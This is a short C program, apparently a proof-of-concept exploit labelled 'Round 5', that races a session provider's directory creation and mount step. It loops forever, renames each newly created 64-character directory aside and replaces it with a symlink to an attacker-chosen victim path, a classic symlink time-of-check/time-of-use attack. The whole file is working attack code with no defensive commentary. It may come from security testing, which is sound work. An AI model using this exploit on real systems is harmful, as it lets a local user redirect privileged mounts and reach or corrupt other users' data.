// Round 5: run as the local user who owns the directory a sessions root
// resolves into; replaces every new directory in it with a symlink to VICTIM,
// racing the provider's mkdir → mount of a session workspace.
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 3) return 2;
  const char *dir = argv[1], *victim = argv[2];
  char path[4096], aside[4096];
  for (long round = 0;; round++) {
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d))) {
      if (e->d_name[0] == '.' || strlen(e->d_name) != 64) continue;
      snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
      snprintf(aside, sizeof aside, "%s/.aside-%ld", dir, round);
      struct stat st;
      if (lstat(path, &st) != 0 || !S_ISDIR(st.st_mode)) continue;
      if (rename(path, aside) == 0 && symlink(victim, path) == 0) {
        fprintf(stderr, "swapped %s\n", e->d_name);
      }
    }
    if (d) closedir(d);
  }
}
